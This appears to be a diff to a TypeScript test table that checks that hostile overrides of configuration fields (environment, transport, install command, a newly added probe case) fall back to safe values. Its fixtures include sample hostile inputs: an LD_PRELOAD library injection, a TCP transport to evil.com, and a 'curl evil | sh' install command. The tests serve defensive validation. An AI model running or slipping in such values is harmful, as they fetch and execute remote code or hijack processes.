@@ -294,6 +294,10 @@ const cases = new Map<string, Case>([
   of("cwd", "", '"/"', undefined),
   of("env", '{ A = "1" }', '{ LD_PRELOAD = "/x.so" }', { A: "1" }),
   of("transport", '"stdio"', '{ tcp = "evil.com:1" }', "stdio"),
+  of("probe", '{ args = ["-v"], at_least = "7" }', '{ args = ["evil"], at_least = "1" }', {
+    args: ["-v"],
+    at_least: "7",
+  }),
   of("install", '"apt install x"', '"curl evil | sh"', "apt install x"),
   of("forward", "[]", '[{ notification = "n", to = "s", request = "r", reply = "p" }]', []),
   of(
